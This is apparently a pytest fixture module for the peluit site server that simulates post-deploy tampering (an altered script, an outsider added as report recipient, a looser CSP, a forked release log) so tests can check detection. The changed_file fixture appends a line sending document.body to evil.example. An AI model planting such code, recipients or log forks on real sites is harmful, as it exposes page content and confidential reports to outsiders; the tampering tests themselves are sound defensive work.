"""A demo `peluit serve` with its built site, signed release and release log, and the ways a
site can be tampered with after deploy (issue 15): a served file changed, a recipient added
to channels.json, another CSP, a fork of the log. Each tampering is a context manager that
puts the site back as it was, so one server serves every test of a module."""

from __future__ import annotations

import json
import shutil
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from peluit import tlog
from peluit.config.demo import open_demo_key
from peluit.keys import KeyFile
from peluit.release.demo import demo_log_signer
from peluit.release.log import Record
from peluit.serve.app import ServeOptions, build_server
from peluit.serve.server import PeluitServer
from peluit.site.forms import CHANNELS_JSON
from peluit.verify import Trust, trust_from_config
from peluit.web.headers import SECURITY_HEADERS

CHANGED_FILE = "assets/peluit/form.js"
CHANNEL = "pengaduan"


class ServedSite:
    """`peluit serve` (demo configuration, built site) on 127.0.0.1, on a thread."""

    def __init__(self, data: Path) -> None:
        self.server: PeluitServer
        self.server, self.config, _, demo = build_server(
            ServeOptions("127.0.0.1", 0, data, None, None)
        )
        assert demo
        self.data = data
        self.site = data / "site"
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        trust = trust_from_config(self.config)
        assert trust is not None
        assert trust.log_key is not None
        self.trust: Trust = trust
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def trust_file(self, folder: Path) -> Path:
        path = folder / "peluit-trust.toml"
        path.write_text(self.trust.text(), encoding="utf-8")
        return path

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@contextmanager
def _kept(path: Path) -> Iterator[None]:
    """`path` (a file or folder) as it was, whatever the block does to it."""
    saved = path.with_name(path.name + ".kept")
    if path.is_dir():
        shutil.copytree(path, saved)
    else:
        shutil.copy2(path, saved)
    try:
        yield
    finally:
        if path.is_dir():
            shutil.rmtree(path)
        else:
            path.unlink()
        saved.rename(path)


@contextmanager
def changed_file(site: ServedSite, name: str = CHANGED_FILE) -> Iterator[str]:
    """A served script changed in the bucket after deploy (one line added)."""
    path = site.site / name
    with _kept(path):
        path.write_bytes(path.read_bytes() + b"\nfetch('https://evil.example/'+document.body);\n")
        yield name


def outsider() -> KeyFile:
    return KeyFile.generate("orang-luar", "Orang Luar", ("reviewer",))


@contextmanager
def added_recipient(site: ServedSite, channel: str = CHANNEL) -> Iterator[str]:
    """channels.json with one more report recipient: an outsider's age key."""
    path = site.site / CHANNELS_JSON
    recipient = outsider().age_recipient
    with _kept(path):
        document = json.loads(path.read_text(encoding="utf-8"))
        document["channels"][channel]["report_recipients"].append(recipient)
        path.write_text(json.dumps(document, indent=1) + "\n", encoding="utf-8")
        yield recipient


@contextmanager
def different_csp(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """Every answer with a CSP that also lets scripts come from another origin."""
    headers = dict(SECURITY_HEADERS)
    headers["Content-Security-Policy"] = headers["Content-Security-Policy"].replace(
        "script-src 'self'", "script-src 'self' https://cdn.evil.example"
    )
    with monkeypatch.context() as patched:
        patched.setattr("peluit.serve.server.SECURITY_HEADERS", headers)
        yield "Content-Security-Policy"


@contextmanager
def forked_log(site: ServedSite, witness: str = "kpk-liaison") -> Iterator[None]:
    """The site's log replaced by another history signed with the same log key: an entry
    put before the real release, so the tree does not extend the one verifiers saw, and
    cosigned by a witness that never saw the real one (a fresh state)."""
    log_dir = site.site / "log"
    signer = demo_log_signer(site.data)
    with _kept(log_dir):
        real = tlog.DirectoryFiles(log_dir)
        checkpoint, _ = tlog.read_checkpoint(real, signer.verifier())
        entries = [tlog.read_entry(real, i, checkpoint.size) for i in range(checkpoint.size)]
        shutil.rmtree(log_dir / "tile")
        (log_dir / tlog.CHECKPOINT).unlink()
        files = tlog.DirectoryFiles(log_dir)
        tlog.create_log(files, signer)
        tlog.append(files, signer, [Record("0" * 64, "unknown").encode(), *entries])
        key = open_demo_key(site.data, witness)
        cosigner = tlog.CosignatureSigner(
            f"peluit-witness/{witness}", key.signing_key, int(time.time())
        )
        done = tlog.witness(files, signer.verifier(), None, cosigner)
        tlog.add_cosignatures(
            files, signer.verifier(), cosigner.verifier(), done.cosignature.line().encode()
        )
        yield
